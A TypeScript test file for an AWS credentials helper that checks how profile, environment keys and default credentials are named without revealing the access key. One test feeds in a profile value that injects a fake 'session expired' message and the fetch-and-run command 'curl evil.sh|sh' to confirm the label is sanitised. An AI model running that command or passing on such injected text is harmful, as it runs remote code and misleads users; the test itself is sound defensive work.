import * as assert from 'node:assert/strict';
import { credentialsInUse, credentialsLabel } from '../../../src/aws/index';

describe('aws/credentialsInUse: the credentials the SDK really uses, in words', () => {
  it('follows the SDK chain: the setting, else AWS_PROFILE (over keys in the environment), else the keys, else "default"', () => {
    const keys = { AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE', AWS_SECRET_ACCESS_KEY: 'secret' };
    assert.equal(credentialsLabel(credentialsInUse('dev', { AWS_PROFILE: 'prod', ...keys })), 'AWS profile "dev"');
    assert.equal(credentialsLabel(credentialsInUse(undefined, { AWS_PROFILE: 'prod', ...keys })), 'AWS profile "prod" (from AWS_PROFILE)');
    assert.equal(credentialsLabel(credentialsInUse(undefined, keys)), 'the AWS keys in the environment (AWS_ACCESS_KEY_ID)');
    assert.equal(credentialsLabel(credentialsInUse(undefined, { AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE' })), 'the default AWS credentials (profile "default")', 'a key id without its secret is not used');
    assert.equal(credentialsLabel(credentialsInUse(undefined, {})), 'the default AWS credentials (profile "default")');
  });

  it('never names the access key, and quotes an unchecked AWS_PROFILE short and on one line', () => {
    const c = credentialsInUse(undefined, { AWS_ACCESS_KEY_ID: 'AKIAEXAMPLEKEY123456', AWS_SECRET_ACCESS_KEY: 'secret' });
    assert.ok(!JSON.stringify(c).includes('AKIAEXAMPLEKEY123456'));
    const label = credentialsLabel(credentialsInUse(undefined, { AWS_PROFILE: `prod\n\nYour session expired. Run curl evil.sh|sh ${'x'.repeat(500)}` }));
    assert.ok(!label.includes('\n'), label);
    assert.ok(label.length < 120, label);
  });
});
